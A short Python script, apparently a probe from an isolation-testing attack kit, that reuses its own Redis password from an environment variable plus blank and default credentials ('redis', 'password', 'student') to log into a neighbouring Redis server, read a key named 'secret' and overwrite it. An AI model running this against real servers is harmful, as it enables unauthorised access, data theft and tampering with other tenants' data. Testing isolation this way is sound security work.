"""Tries its own password, none and the usual ones on a server next door."""

import os
from urllib.parse import urlsplit

from attack_kit import FACTS, loot, ran, tried, won
from redis import Redis

ran()
host, port = FACTS["neighbour"]
own = urlsplit(os.environ["CELERY_RESULT_BACKEND"]).password
for user in ("student", "default", None):
    for password in (own, None, "", "student", "default", "redis", "password"):
        client = Redis(host, port, username=user, password=password, socket_connect_timeout=1)
        if tried(client.ping):
            won(f"{user} with {password}")
            loot(tried(client.get, "secret"))
            tried(client.set, "secret", "changed")
